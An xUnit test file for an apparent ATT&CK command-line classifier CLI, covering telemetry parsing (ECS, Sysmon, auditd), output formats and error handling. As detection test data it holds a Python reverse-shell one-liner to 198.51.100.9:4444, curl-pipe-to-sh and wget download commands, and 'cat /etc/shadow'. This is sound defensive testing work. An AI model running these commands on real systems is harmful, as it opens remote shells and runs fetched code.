using System.Globalization;
using System.Text;
using System.Text.Json;
using AttackClassifier.Cli.Output;
using AttackClassifier.Telemetry;
using FsCheck;
using FsCheck.Fluent;
using FsCheck.Xunit;

namespace AttackClassifier.Tests.Cli;

/// <summary><c>predict</c> over telemetry: presets, error records in place, auditd events, --keep, --strict, the text format
/// against injection. The model is the fixed fixture Fixtures/Cli/sample-lr.acm.</summary>
public class PredictTelemetryTests
{
    private static string Fixture(string path) => Path.Combine(AppContext.BaseDirectory, "Fixtures", path);

    private static readonly string Model = Fixture("Cli/sample-lr.acm");

    private static (int ExitCode, string Output, string Error) Predict(string input, params string[] args) =>
        CliRunner.RunWithInput(input, ["predict", "--model", Model, .. args]);

    private static JsonElement[] JsonLines(string output) =>
        output.Split('\n', StringSplitOptions.RemoveEmptyEntries).Select(l => JsonDocument.Parse(l).RootElement.Clone()).ToArray();

    private static string[] Lines(string output)
    {
        Assert.EndsWith("\n", output);
        return output[..^1].Split('\n');
    }

    // The reader's fixture expectations (Fixtures/Telemetry/*.expected.jsonl): one per input record, in order.
    private static JsonElement[] Expected(string fixture) => JsonLines(File.ReadAllText(Fixture(fixture + ".expected.jsonl")));

    [Theory]
    [InlineData("Telemetry/ecs-process.ndjson", "ecs")]
    [InlineData("Telemetry/sysmon-export.ndjson", "sysmon")]
    [InlineData("Telemetry/sysmon-winlogbeat.ndjson", "sysmon")]
    [InlineData("Telemetry/win4688-winlogbeat.ndjson", "win4688")]
    [InlineData("Telemetry/osquery-process-events.ndjson", "osquery")]
    [InlineData("Telemetry/osquery-processes-batch.ndjson", "osquery")]
    [InlineData("Telemetry/audit.log", "auditd")]
    public void Every_preset_fixture_classifies_exactly_as_its_plain_command_line(string fixture, string format)
    {
        JsonElement[] expected = Expected(fixture);
        var (exit, output, error) = Predict("", "--input", Fixture(fixture), "--input-format", format, "--format", "jsonl", "--emit", "prediction");
        Assert.True(exit == 0, error);
        JsonElement[] records = JsonLines(output);
        Assert.Equal(expected.Length, records.Length);   // one output record per input record, errors included

        string[] commands = expected.Where(e => e.GetProperty("error").ValueKind == JsonValueKind.Null).Select(e => e.GetProperty("command").GetString()!).ToArray();
        var plain = Predict(string.Join('\n', commands) + "\n", "--format", "jsonl");
        Assert.True(plain.ExitCode == 0, plain.Error);
        Queue<JsonElement> plainRecords = new(JsonLines(plain.Output));
        Assert.Equal(commands.Length, plainRecords.Count);

        for (int i = 0; i < expected.Length; i++)
        {
            JsonElement e = expected[i], r = records[i];
            Assert.Equal(e.GetProperty("line").GetInt64(), r.GetProperty("line").GetInt64());
            if (e.GetProperty("error").GetString() is { } message)
            {
                Assert.StartsWith(message, r.GetProperty("error").GetString());
                continue;
            }
            Assert.Equal(e.GetProperty("command").GetString(), r.GetProperty("input").GetString());
            Assert.Equal(e.GetProperty("truncated").GetBoolean(), r.TryGetProperty("truncated", out JsonElement t) && t.GetBoolean());
            JsonElement p = plainRecords.Dequeue();
            foreach (string key in new[] { "label", "kind", "technique_id" })
                Assert.Equal(p.GetProperty(key).ToString(), r.GetProperty(key).ToString());
            Assert.Equal(p.GetProperty("probability").GetDouble(), r.GetProperty("probability").GetDouble());   // the same command: bit-identical
            Assert.Equal(p.GetProperty("top").ToString(), r.GetProperty("top").ToString());
        }

        if (format == "auditd") return;   // no JSON events to enrich
        var ecs = Predict("", "--input", Fixture(fixture), "--input-format", format, "--format", "ecs");
        Assert.True(ecs.ExitCode == 0, ecs.Error);
        JsonElement[] enriched = JsonLines(ecs.Output);
        Assert.Equal(records.Length, enriched.Length);
        for (int i = 0; i < records.Length; i++)
        {
            JsonElement classifier = enriched[i].GetProperty("attack_classifier");
            Assert.Equal(records[i].GetProperty("line").GetInt64(), classifier.GetProperty("line").GetInt64());
            Assert.Equal(records[i].TryGetProperty("label", out JsonElement label) ? label.GetString() : null,
                         classifier.TryGetProperty("label", out JsonElement l) ? l.GetString() : null);
        }
    }

    // Without --model the built-in model for the input: Windows event sources get builtin:windows, the rest builtin:linux.
    [Theory]
    [InlineData("Telemetry/sysmon-winlogbeat.ndjson", "sysmon", "builtin:windows")]
    [InlineData("Telemetry/win4688-winlogbeat.ndjson", "win4688", "builtin:windows")]
    [InlineData("Telemetry/ecs-process.ndjson", "ecs", "builtin:linux")]
    [InlineData("Telemetry/audit.log", "auditd", "builtin:linux")]
    public void Without_a_model_the_built_in_model_for_the_input_format_is_used(string fixture, string format, string model)
    {
        var (exit, output, error) = CliRunner.Run("predict", "--input", Fixture(fixture), "--input-format", format, "--format", "jsonl", "--emit", "prediction");
        Assert.True(exit == 0, error);
        Assert.All(JsonLines(output), r => Assert.Equal(model, r.GetProperty("model").GetProperty("name").GetString()));
    }

    [Fact]
    public void Three_ecs_events_with_a_blank_and_a_broken_line_between_them_give_five_lines_in_order()
    {
        string[] events = File.ReadAllLines(Fixture("Telemetry/ecs-process.ndjson"))[..3];
        string input = string.Join('\n', events[0], "", events[1], "{\"process\": {\"command_line\": ", events[2]) + "\n";
        string[] ids = events.Select(e => JsonDocument.Parse(e).RootElement.TryGetProperty("event", out JsonElement ev) && ev.TryGetProperty("id", out JsonElement id) ? id.GetString()! : "").ToArray();

        foreach (string format in new[] { "ecs", "jsonl" })
        {
            var (exit, output, error) = Predict(input, "--input-format", "ecs", "--format", format);
            Assert.True(exit == 0, error);
            JsonElement[] records = JsonLines(output);
            Assert.Equal(5, records.Length);
            for (int i = 0; i < 5; i++)
            {
                JsonElement classifier = records[i].GetProperty("attack_classifier");
                Assert.Equal(i + 1, classifier.GetProperty("line").GetInt32());
                Assert.Equal(64, classifier.GetProperty("model").GetProperty("sha256").GetString()!.Length);
            }
            Assert.Equal("empty line", records[1].GetProperty("attack_classifier").GetProperty("error").GetString());
            Assert.StartsWith("invalid JSON", records[3].GetProperty("attack_classifier").GetProperty("error").GetString());
            Assert.False(records[1].TryGetProperty("threat", out _));
            Assert.Single(records[3].EnumerateObject());   // no input object to enrich: the classification alone
            int[] eventLines = [0, 2, 4];
            for (int k = 0; k < 3; k++)   // the events come back whole, in order
            {
                JsonElement r = records[eventLines[k]];
                if (ids[k] != "") Assert.Equal(ids[k], r.GetProperty("event").GetProperty("id").GetString());
                using JsonDocument original = JsonDocument.Parse(events[k]);
                foreach (JsonProperty p in original.RootElement.EnumerateObject())
                    Assert.Equal(p.Value.GetRawText(), r.GetProperty(p.Name).GetRawText());
            }
        }

        var text = Predict(input, "--input-format", "ecs", "--format", "text");
        Assert.True(text.ExitCode == 0, text.Error);
        string[] lines = Lines(text.Output);
        Assert.Equal(5, lines.Length);
        Assert.Equal(["1", "2", "3", "4", "5"], lines.Select(l => l.Split('\t')[0]));
        Assert.Equal("error", lines[3].Split('\t')[1]);
        Assert.Contains("2 of 5 input records held no command", text.Error);
        Assert.StartsWith("predict: model sample-lr.acm (0.1.0, sha256 ", text.Error);   // text lines have no room for the model
    }

    // auditd: the records of two events interleaved, the first with hex-encoded arguments (a space and a quote force hex)
    // making a command longer than the kernel's 128-byte PROCTITLE; the whole argv must come back, with the event's ids.
    [Fact]
    public void An_interleaved_auditd_stream_decodes_the_full_hex_argv_with_its_ids_through_predict()
    {
        string script = "import socket,os;s=socket.socket();s.connect((\"198.51.100.9\",4444));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);os.dup2(s.fileno(),2);os.system(\"/bin/sh -i\")";
        Assert.True(Encoding.UTF8.GetByteCount("python3 -c " + script) > 128);
        string hex = Convert.ToHexString(Encoding.UTF8.GetBytes(script));
        string proctitle = Convert.ToHexString(Encoding.UTF8.GetBytes("python3\0-c\0" + script)[..128]);   // the kernel's cut
        string log = string.Join('\n',
            "node=db-02 type=SYSCALL msg=audit(1710408500.100:7001): arch=c000003e syscall=59 success=yes exit=0 ppid=900 pid=901 auid=1000 uid=0 tty=pts3 ses=12 comm=\"python3\" exe=\"/usr/bin/python3.11\"",
            "node=db-02 type=SYSCALL msg=audit(1710408500.105:7002): arch=c000003e syscall=59 success=yes exit=0 ppid=1 pid=950 auid=4294967295 uid=0 tty=(none) ses=4294967295 comm=\"id\" exe=\"/usr/bin/id\"",
            $"node=db-02 type=EXECVE msg=audit(1710408500.100:7001): argc=3 a0=\"python3\" a1=\"-c\" a2={hex}",
            "node=db-02 type=EXECVE msg=audit(1710408500.105:7002): argc=1 a0=\"id\"",
            "node=db-02 type=CWD msg=audit(1710408500.100:7001): cwd=\"/srv\"",
            $"node=db-02 type=PROCTITLE msg=audit(1710408500.100:7001): proctitle={proctitle}",
            "node=db-02 type=PROCTITLE msg=audit(1710408500.105:7002): proctitle=\"id\"",
            "node=db-02 type=EOE msg=audit(1710408500.100:7001): ",
            "node=db-02 type=EOE msg=audit(1710408500.105:7002): ") + "\n";

        var (exit, output, error) = Predict(log, "--input-format", "auditd", "--format", "jsonl", "--keep", "event_id,host,pid,ppid,ses,tty,auid,exe,cwd");
        Assert.True(exit == 0, error);
        JsonElement[] records = JsonLines(output);
        Assert.Equal(2, records.Length);
        JsonElement python = records[0];
        Assert.Equal("python3 -c " + script, python.GetProperty("input").GetString());
        Assert.False(python.TryGetProperty("truncated", out _));
        Assert.Equal(1, python.GetProperty("line").GetInt32());
        Assert.Equal("1710408500.100:7001", python.GetProperty("event_id").GetString());
        Assert.Equal("db-02", python.GetProperty("host").GetString());
        Assert.Equal("901", python.GetProperty("pid").GetString());
        Assert.Equal("900", python.GetProperty("ppid").GetString());
        Assert.Equal("12", python.GetProperty("ses").GetString());
        Assert.Equal("pts3", python.GetProperty("tty").GetString());
        Assert.Equal("/usr/bin/python3.11", python.GetProperty("exe").GetString());
        Assert.Equal("/srv", python.GetProperty("cwd").GetString());
        Assert.Equal("id", records[1].GetProperty("input").GetString());
        Assert.Equal("950", records[1].GetProperty("pid").GetString());
        Assert.Equal(2, records[1].GetProperty("line").GetInt32());

        // ECS: the same ids at their ECS fields, pids as numbers, the epoch time as @timestamp.
        var ecs = Predict(log, "--input-format", "auditd", "--format", "ecs", "--keep", "event_id,timestamp,host,pid,ppid,ses,serial");
        Assert.True(ecs.ExitCode == 0, ecs.Error);
        JsonElement doc = JsonLines(ecs.Output)[0];
        Assert.Equal("python3 -c " + script, doc.GetProperty("process").GetProperty("command_line").GetString());
        Assert.Equal(901, doc.GetProperty("process").GetProperty("pid").GetInt32());
        Assert.Equal(900, doc.GetProperty("process").GetProperty("parent").GetProperty("pid").GetInt32());
        Assert.Equal("2024-03-14T09:28:20.100Z", doc.GetProperty("@timestamp").GetString());
        Assert.Equal("db-02", doc.GetProperty("host").GetProperty("name").GetString());
        Assert.Equal("12", doc.GetProperty("auditd").GetProperty("session").GetString());
        Assert.Equal(7001, doc.GetProperty("auditd").GetProperty("sequence").GetInt32());
        Assert.Equal("1710408500.100:7001", doc.GetProperty("event").GetProperty("id").GetString());
    }

    [Fact]
    public void The_audit_log_fixture_through_predict_keeps_every_event_and_its_truncation()
    {
        JsonElement[] expected = Expected("Telemetry/audit.log");
        var (exit, output, error) = Predict("", "--input", Fixture("Telemetry/audit.log"), "--input-format", "auditd", "--format", "jsonl", "--keep", "event_id,pid,ses,auid");
        Assert.True(exit == 0, error);
        JsonElement[] records = JsonLines(output);
        Assert.Equal(expected.Length, records.Length);
        for (int i = 0; i < expected.Length; i++)
        {
            Assert.Equal(expected[i].GetProperty("command").GetString(), records[i].GetProperty("input").GetString());
            Assert.Equal(expected[i].GetProperty("eventId").GetString(), records[i].GetProperty("event_id").GetString());
            Assert.Equal(expected[i].GetProperty("processId").GetString(), records[i].GetProperty("pid").GetString());
            Assert.Equal(expected[i].GetProperty("session").GetString(), records[i].GetProperty("ses").GetString());
            Assert.Equal(expected[i].GetProperty("auditUserId").GetString(), records[i].GetProperty("auid").GetString());
            Assert.Equal(expected[i].GetProperty("truncated").GetBoolean(), records[i].TryGetProperty("truncated", out _));
        }
    }

    // Any UTF-16 string: arbitrary code units (lone surrogates included) mixed with line breaks, tabs, ESC and bidi controls.
    private static readonly Gen<string> AnyString =
        Gen.OneOf(
                Gen.Choose(0, 0xFFFF).Select(c => (char)c),
                Gen.Elements('\n', '\r', '\t', '\\', '\u001b', '\u007f', '\u0085', '\u2028', '\u2029', '\u202e', '\u2066', '\u200f', '\u061c', 'x', 'x', 'x', ' '),
                Gen.Elements('\ud83d', '\ude00'))
            .ArrayOf().Select(c => new string(c));

    // JSON text of s with every char outside printable ASCII as a \uXXXX escape: any UTF-16 string, lone surrogates too.
    private static string JsonString(string s)
    {
        var json = new StringBuilder("\"");
        foreach (char c in s)
        {
            if (c is >= ' ' and <= '~' && c is not ('"' or '\\')) json.Append(c);
            else json.Append("\\u").Append(((int)c).ToString("x4", CultureInfo.InvariantCulture));
        }
        return json.Append('"').ToString();
    }

    [Property(MaxTest = 60)]
    public Property Text_output_has_one_line_and_fixed_columns_per_json_record_whatever_the_command_holds()
    {
        // Lone surrogates are replaced before encoding: the telemetry reader cannot yet read a lone-surrogate escape
        // (JsonElement.GetString throws on it); the plain-text property below covers lone surrogates end to end.
        return Prop.ForAll(AnyString.Select(JsonText.Wellformed).ArrayOf().ToArbitrary(), commands =>
        {
            string input = string.Concat(commands.Select((c, i) => $"{{\"id\":{i},\"cmd\":{JsonString(c)},\"tag\":{JsonString(c)}}}\n"));
            var (exit, output, error) = Predict(input, "--input-format", "jsonl", "--field", "cmd", "--format", "text", "--keep", "tag,id", "--explain");
            Assert.True(exit == 0, error);
            string[] lines = commands.Length == 0 ? [] : Lines(output);
            Assert.Equal(commands.Length, lines.Length);
            for (int i = 0; i < lines.Length; i++)
            {
                string[] columns = lines[i].Split('\t');
                Assert.Equal(7, columns.Length);   // line, kind, top, evidence, tag, id, input
                Assert.Equal((i + 1).ToString(CultureInfo.InvariantCulture), columns[0]);
                Assert.Equal(i.ToString(CultureInfo.InvariantCulture), columns[5]);
                string command = TextEscaping.Unescape(columns[6]);
                if (string.IsNullOrWhiteSpace(commands[i])) Assert.Equal("error", columns[1]);
                else Assert.Equal(commands[i], command);
                Assert.Equal(commands[i], TextEscaping.Unescape(columns[4]));
                Assert.DoesNotContain(lines[i], c => c is '\r' or '\u001b' or '\u2028' or '\u2029' or '\u202e' or '\u2066');
            }
        });
    }

    [Property(MaxTest = 60)]
    public Property Text_output_has_one_line_and_fixed_columns_per_plain_line_whatever_it_holds()
    {
        return Prop.ForAll(AnyString.ToArbitrary(), input =>
        {
            var (exit, output, error) = Predict(input, "--format", "text");
            Assert.True(exit == 0, error);
            List<string> records = [.. input.Split('\n')];
            if (input.EndsWith('\n') || input.Length == 0) records.RemoveAt(records.Count - 1);   // a final LF ends the last line
            string[] lines = records.Count == 0 ? [] : Lines(output);
            Assert.Equal(records.Count, lines.Length);
            for (int i = 0; i < lines.Length; i++)
            {
                string[] columns = lines[i].Split('\t');
                Assert.Equal(4, columns.Length);   // line, kind, top, input
                string expected = records[i].EndsWith('\r') ? records[i][..^1] : records[i];   // CRLF: the CR belongs to the line break
                if (string.IsNullOrWhiteSpace(expected)) Assert.Equal("error", columns[1]);
                else Assert.Equal(expected, TextEscaping.Unescape(columns[3]));
            }
        });
    }

    [Fact]
    public void Strict_stops_at_the_first_bad_record_with_exit_2_naming_file_and_line()
    {
        string[] events = File.ReadAllLines(Fixture("Telemetry/ecs-process.ndjson"));
        string path = Path.Combine(Path.GetTempPath(), $"ac-strict-{Guid.NewGuid():N}.ndjson");
        try
        {
            File.WriteAllText(path, string.Join('\n', events[0], "{not json", events[1]) + "\n");
            var (exit, output, error) = Predict("", "--input", path, "--input-format", "ecs", "--format", "ecs", "--strict");
            Assert.Equal(2, exit);
            Assert.StartsWith($"error: {path}:2: invalid JSON", error);
            Assert.Single(JsonLines(output));   // the record before it was written

            var lenient = Predict("", "--input", path, "--input-format", "ecs", "--format", "ecs");
            Assert.Equal(0, lenient.ExitCode);
            Assert.Equal(3, JsonLines(lenient.Output).Length);
        }
        finally { File.Delete(path); }
    }

    [Theory]
    [InlineData("1.5")]
    [InlineData("-0.1")]
    [InlineData("NaN")]
    public void Min_probability_is_still_validated_for_telemetry_input(string value)
    {
        var (exit, _, error) = Predict(File.ReadAllLines(Fixture("Telemetry/ecs-process.ndjson"))[0] + "\n",
            "--input-format", "ecs", "--format", "ecs", "--min-probability", value);
        Assert.Equal(2, exit);
        Assert.Contains("--min-probability must lie in [0, 1]", error);
    }

    [Fact]
    public void The_cache_of_repeated_lines_is_an_option_that_changes_no_output_and_refuses_a_negative_size()
    {
        string input = string.Concat(Enumerable.Range(0, 300).Select(i => $"curl -s http://10.0.0.{i % 4}/x.sh | sh\n"));
        var cached = Predict(input, "--format", "jsonl");
        var uncached = Predict(input, "--format", "jsonl", "--cache-lines", "0");
        Assert.True(cached.ExitCode == 0, cached.Error);
        Assert.True(uncached.ExitCode == 0, uncached.Error);
        Assert.Equal(300, JsonLines(cached.Output).Length);
        Assert.Equal(uncached.Output, cached.Output);

        var (exit, _, error) = Predict(input, "--cache-lines", "-1");
        Assert.Equal(2, exit);
        Assert.Contains("--cache-lines must be ≥ 0", error);
    }

    [Fact]
    public void Kept_fields_that_are_missing_are_null_not_a_crash()
    {
        string[] events = File.ReadAllLines(Fixture("Telemetry/ecs-process.ndjson"));
        string input = events[0] + "\n{broken\n";
        var (exit, output, error) = Predict(input, "--input-format", "ecs", "--format", "jsonl", "--emit", "prediction",
            "--keep", "process.pid,no.such.field,process.args.1", "--keep", "host.name");
        Assert.True(exit == 0, error);
        JsonElement[] records = JsonLines(output);
        Assert.Equal(2, records.Length);
        Assert.Equal(48213, records[0].GetProperty("process").GetProperty("pid").GetInt32());
        Assert.Equal("-fsSL", records[0].GetProperty("process").GetProperty("args").GetProperty("1").GetString());
        Assert.Equal(JsonValueKind.Null, records[0].GetProperty("no").GetProperty("such").GetProperty("field").ValueKind);
        Assert.Equal("web-01", records[0].GetProperty("host").GetProperty("name").GetString());
        Assert.Equal(JsonValueKind.Null, records[1].GetProperty("process").GetProperty("pid").ValueKind);   // no event: every kept field null
        Assert.Equal(JsonValueKind.Null, records[1].GetProperty("host").GetProperty("name").ValueKind);

        var auditd = Predict("type=EXECVE msg=audit(1.5:9): argc=1 a0=\"id\"\n", "--input-format", "auditd", "--format", "ecs", "--keep", "pid,host,tty");
        Assert.True(auditd.ExitCode == 0, auditd.Error);
        JsonElement doc = JsonLines(auditd.Output)[0];
        Assert.Equal(JsonValueKind.Null, doc.GetProperty("process").GetProperty("pid").ValueKind);
        Assert.Equal(JsonValueKind.Null, doc.GetProperty("host").GetProperty("name").ValueKind);
        Assert.Equal("id", doc.GetProperty("process").GetProperty("command_line").GetString());
    }

    [Theory]
    [InlineData("plain", "text", "host", "plain input carries no fields")]
    [InlineData("auditd", "jsonl", "hostname", "'hostname' is none of them")]
    [InlineData("ecs", "jsonl", "host,host.name", "overlaps another kept field at 'host'")]
    [InlineData("ecs", "jsonl", "label", "writes 'label' itself")]
    [InlineData("ecs", "ecs", "threat.technique.id", "writes 'threat' itself")]
    [InlineData("ecs", "ecs", "process", "overlaps another kept field at 'process'")]
    [InlineData("ecs", "jsonl", "a..b", "not a dot path")]
    public void Keep_names_that_cannot_be_written_are_a_clear_error(string input, string format, string keep, string message)
    {
        var (exit, output, error) = Predict("ls\n", "--input-format", input, "--format", format, "--emit", "prediction", "--keep", keep);
        Assert.Equal(2, exit);
        Assert.Equal("", output);
        Assert.Contains(message, error);
    }

    [Theory]
    [InlineData(new[] { "--input-format", "plain", "--format", "jsonl", "--emit", "enriched" }, "needs JSON input events")]
    [InlineData(new[] { "--input-format", "ecs", "--format", "text", "--emit", "enriched" }, "use --format jsonl or ecs")]
    [InlineData(new[] { "--input-format", "ecs", "--format", "ecs", "--keep", "host" }, "--keep applies to --emit prediction")]
    [InlineData(new[] { "--input-format", "jsonl" }, "needs --field")]
    [InlineData(new[] { "--input-format", "auditd", "--field", "x" }, "--field applies to JSON inputs")]
    [InlineData(new[] { "--max-command-bytes", "0" }, "--max-command-bytes must be ≥ 1")]
    public void Options_that_do_not_fit_the_input_are_a_clear_error(string[] args, string message)
    {
        var (exit, _, error) = Predict("ls\n", args);
        Assert.Equal(2, exit);
        Assert.Contains(message, error);
    }

    // A model whose classes include a sub-technique, so the ECS technique/subtechnique split is exercised.
    private static string TrainSubtechniqueModel()
    {
        var rows = new List<AttackClassifier.Data.CommandRecord>();
        for (int i = 0; i < 12; i++)
        {
            rows.Add(new($"bash -c 'echo {i} | sh'", "T1059.004: Unix Shell", 5));
            rows.Add(new($"ls -la /home/user{i}", "Normal", 5));
            rows.Add(new($"wget http://198.51.100.{i}/x -O /tmp/x{i}", "T1105: Ingress Tool Transfer", 5));
            rows.Add(new($"frobnicate --level {i}", "Z999: Other Low-Frequency Techniques", 5));
        }
        var classifier = AttackClassifier.Classification.TfidfLogisticRegressionClassifier.Train(new AttackClassifier.Data.CommandDataset(rows));
        string path = Path.Combine(Path.GetTempPath(), $"ac-sub-{Guid.NewGuid():N}.acm");
        AttackClassifier.Serialization.ModelFile.Save(classifier, path);
        return path;
    }

    // Every threat key written is an ECS threat field (Fixtures/Cli/ecs-threat-fields.tsv, from the ECS field reference),
    // with ECS's shape (arrays where ECS says array); a sub-technique goes to technique.subtechnique with its parent as
    // the technique; benign, other and unknown predictions carry no threat at all.
    [Fact]
    public void Ecs_output_writes_only_ecs_threat_fields_and_splits_sub_techniques()
    {
        Dictionary<string, bool> ecsFields = File.ReadLines(Fixture("Cli/ecs-threat-fields.tsv"))
            .Where(l => !l.StartsWith('#')).Select(l => l.Split('\t')).ToDictionary(f => f[0], f => f[2] == "array");
        string model = TrainSubtechniqueModel();
        try
        {
            string input = "bash -c 'echo 3 | sh'\nls -la /home/user3\nwget http://198.51.100.3/x -O /tmp/x3\nfrobnicate --level 3\n";
            var (exit, output, error) = CliRunner.RunWithInput(input, "predict", "--model", model, "--format", "ecs");
            Assert.True(exit == 0, error);
            JsonElement[] docs = JsonLines(output);
            Assert.Equal(4, docs.Length);

            JsonElement shell = docs[0].GetProperty("threat");
            Assert.Equal("MITRE ATT&CK", shell.GetProperty("framework").GetString());
            JsonElement technique = shell.GetProperty("technique");
            Assert.Equal(["T1059"], technique.GetProperty("id").EnumerateArray().Select(v => v.GetString()));
            Assert.Equal(["Command and Scripting Interpreter"], technique.GetProperty("name").EnumerateArray().Select(v => v.GetString()));
            Assert.Equal(["https://attack.mitre.org/techniques/T1059/"], technique.GetProperty("reference").EnumerateArray().Select(v => v.GetString()));
            JsonElement sub = technique.GetProperty("subtechnique");
            Assert.Equal(["T1059.004"], sub.GetProperty("id").EnumerateArray().Select(v => v.GetString()));
            Assert.Equal(["Unix Shell"], sub.GetProperty("name").EnumerateArray().Select(v => v.GetString()));
            Assert.Equal(["https://attack.mitre.org/techniques/T1059/004/"], sub.GetProperty("reference").EnumerateArray().Select(v => v.GetString()));
            Assert.Equal(["TA0002"], shell.GetProperty("tactic").GetProperty("id").EnumerateArray().Select(v => v.GetString()));
            Assert.Equal("bash -c 'echo 3 | sh'", docs[0].GetProperty("process").GetProperty("command_line").GetString());

            JsonElement transfer = docs[2].GetProperty("threat").GetProperty("technique");
            Assert.Equal(["T1105"], transfer.GetProperty("id").EnumerateArray().Select(v => v.GetString()));
            Assert.False(transfer.TryGetProperty("subtechnique", out _));

            Assert.False(docs[1].TryGetProperty("threat", out _));
            Assert.Equal("benign", docs[1].GetProperty("attack_classifier").GetProperty("kind").GetString());
            Assert.False(docs[3].TryGetProperty("threat", out _));
            Assert.Equal("other", docs[3].GetProperty("attack_classifier").GetProperty("kind").GetString());

            var unsure = CliRunner.RunWithInput(input, "predict", "--model", model, "--format", "ecs", "--min-probability", "1");
            Assert.All(JsonLines(unsure.Output), d =>
            {
                Assert.False(d.TryGetProperty("threat", out _));
                Assert.Equal("unknown", d.GetProperty("attack_classifier").GetProperty("kind").GetString());
            });

            // Every threat key of these and of the ECS fixture's events, checked against the ECS list.
            var all = Predict("", "--input", Fixture("Telemetry/ecs-process.ndjson"), "--input-format", "ecs", "--format", "ecs");
            int checkedKeys = 0;
            foreach (JsonElement doc in docs.Concat(JsonLines(all.Output)))
            {
                foreach (string key in new[] { "probability", "kind", "top", "model" }) Assert.True(doc.GetProperty("attack_classifier").TryGetProperty(key, out _), key);
                if (!doc.TryGetProperty("threat", out JsonElement threat)) continue;
                foreach ((string path, JsonElement value) in Leaves("threat", threat))
                {
                    Assert.True(ecsFields.TryGetValue(path, out bool array), $"{path} is not an ECS threat field");
                    Assert.Equal(array, value.ValueKind == JsonValueKind.Array);
                    checkedKeys++;
                }
            }
            Assert.True(checkedKeys >= 20, $"{checkedKeys} threat fields checked");
        }
        finally { File.Delete(model); }
    }

    private static IEnumerable<(string Path, JsonElement Value)> Leaves(string prefix, JsonElement element)
    {
        if (element.ValueKind != JsonValueKind.Object)
        {
            yield return (prefix, element);
            yield break;
        }
        foreach (JsonProperty p in element.EnumerateObject())
            foreach (var leaf in Leaves($"{prefix}.{p.Name}", p.Value)) yield return leaf;
    }

    [Fact]
    public void Enriched_output_replaces_the_inputs_own_threat_and_attack_classifier_fields_without_duplicate_keys()
    {
        string input = "{\"process\":{\"command_line\":\"cat /etc/shadow\"},\"threat\":{\"framework\":\"forged\"},\"threat.technique.id\":[\"T0000\"],"
                     + "\"attack_classifier\":{\"kind\":\"benign\"},\"attack_classifier.kind\":\"benign\",\"thr\\u0065at\":1,\"threatening\":true,\"event\":{\"id\":\"e1\"}}\n";
        var strict = new JsonDocumentOptions { AllowDuplicateProperties = false };
        var (exit, output, error) = Predict(input, "--input-format", "ecs", "--format", "ecs");
        Assert.True(exit == 0, error);
        using (JsonDocument doc = JsonDocument.Parse(output, strict))
        {
            JsonElement r = doc.RootElement;
            Assert.Equal(["process", "threatening", "event", "threat", "attack_classifier"], r.EnumerateObject().Select(p => p.Name));
            Assert.Equal("MITRE ATT&CK", r.GetProperty("threat").GetProperty("framework").GetString());
            Assert.Equal("technique", r.GetProperty("attack_classifier").GetProperty("kind").GetString());
        }
        // JSONL owns only attack_classifier: the input's threat fields stay as they were (the input's own duplicate too).
        (exit, output, error) = Predict(input, "--input-format", "ecs", "--format", "jsonl");
        Assert.True(exit == 0, error);
        using (JsonDocument doc = JsonDocument.Parse(output))
            Assert.Equal(["process", "threat", "threat.technique.id", "threat", "threatening", "event", "attack_classifier"], doc.RootElement.EnumerateObject().Select(p => p.Name));
    }

    [Fact]
    public void Raw_whitespace_and_escapes_of_an_input_event_cannot_split_the_output_line()
    {
        string input = "{\"cmd\" :\r \"ls \\u2028 -la\",\r\"n\": [1,\r2]}\r\n{\"cmd\":\"id\"}\n";   // CRs as JSON whitespace, a CRLF line end
        var (exit, output, error) = Predict(input, "--input-format", "jsonl", "--field", "cmd", "--format", "jsonl");
        Assert.True(exit == 0, error);
        Assert.DoesNotContain('\r', output);
        string[] lines = Lines(output);
        Assert.Equal(2, lines.Length);
        using JsonDocument first = JsonDocument.Parse(lines[0]);
        Assert.Equal("ls \u2028 -la", first.RootElement.GetProperty("cmd").GetString());
        Assert.Equal(2, first.RootElement.GetProperty("n")[1].GetInt32());
    }

    [Fact]
    public void A_lone_surrogate_in_a_plain_command_is_written_as_U_FFFD_not_a_crash()
    {
        var (exit, output, error) = Predict("cat /tmp/\ud800x\n", "--format", "jsonl");
        Assert.True(exit == 0, error);
        Assert.Equal("cat /tmp/\uFFFDx", JsonLines(output)[0].GetProperty("input").GetString());
    }

    // Hostile sizes, exact results: a 1 MB plain command is cut to the limit and marked; a 2 MB JSON line becomes an error
    // record without being held, and the next event is classified as usual.
    [Fact]
    public void Megabyte_inputs_are_cut_or_reported_exactly()
    {
        string huge = "curl " + new string('A', 1 << 20);
        var (exit, output, error) = Predict(huge + "\nid\n", "--format", "jsonl", "--max-command-bytes", "1000");
        Assert.True(exit == 0, error);
        JsonElement[] records = JsonLines(output);
        Assert.Equal(2, records.Length);
        Assert.True(records[0].GetProperty("truncated").GetBoolean());
        Assert.Equal(huge[..1000], records[0].GetProperty("input").GetString());
        Assert.False(records[1].TryGetProperty("truncated", out _));

        string bigEvent = "{\"process\":{\"command_line\":\"" + new string('B', 2 << 20) + "\"}}";
        (exit, output, error) = Predict(bigEvent + "\n{\"process\":{\"command_line\":\"id\"}}\n", "--input-format", "ecs", "--format", "ecs");
        Assert.True(exit == 0, error);
        records = JsonLines(output);
        Assert.Equal(2, records.Length);
        Assert.Equal($"line is {Encoding.UTF8.GetByteCount(bigEvent)} bytes, over the 1048576-byte JSON line limit.",
                     records[0].GetProperty("attack_classifier").GetProperty("error").GetString());
        Assert.Equal("id", records[1].GetProperty("process").GetProperty("command_line").GetString());
        Assert.Equal(2, records[1].GetProperty("attack_classifier").GetProperty("line").GetInt32());
    }
}
